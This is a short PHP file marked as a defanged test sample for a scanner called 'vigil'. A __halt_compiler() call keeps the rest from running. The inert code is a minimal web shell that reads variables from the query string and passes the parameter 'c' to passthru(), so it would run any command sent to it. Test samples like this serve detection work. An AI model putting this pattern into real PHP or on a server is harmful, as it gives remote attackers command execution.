<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
parse_str($_SERVER['QUERY_STRING']);
passthru($c);
